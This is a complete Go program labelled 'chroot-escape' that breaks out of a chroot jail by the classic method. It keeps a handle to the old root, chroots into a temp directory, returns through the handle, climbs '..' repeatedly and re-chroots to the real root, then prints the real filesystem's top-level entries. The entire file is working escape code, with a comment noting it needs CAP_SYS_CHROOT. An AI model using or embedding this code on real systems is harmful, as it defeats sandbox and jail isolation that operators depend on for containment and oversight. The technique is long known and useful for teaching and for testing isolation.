// Command chroot-escape leaves a bare chroot the classic way, and shows where it got to.
// It needs CAP_SYS_CHROOT.
package main

import (
	"fmt"
	"os"
	"strings"

	"golang.org/x/sys/unix"
)

func main() {
	if err := escape(); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func escape() error {
	dir, err := os.MkdirTemp("/tmp", "")
	if err != nil {
		return err
	}
	defer os.Remove(dir) //nolint:errcheck // it may be elsewhere by now
	above, err := unix.Open("/", unix.O_PATH|unix.O_DIRECTORY, 0)
	if err != nil {
		return err
	}
	// The new root is below the working directory, so that ".." does not meet it.
	if err := unix.Chroot(dir); err != nil {
		return err
	}
	if err := unix.Fchdir(above); err != nil {
		return err
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	if err := unix.Chroot("."); err != nil {
		return err
	}
	entries, err := os.ReadDir("/")
	if err != nil {
		return err
	}
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	_, err = fmt.Println(strings.Join(names, " "))
	return err
}
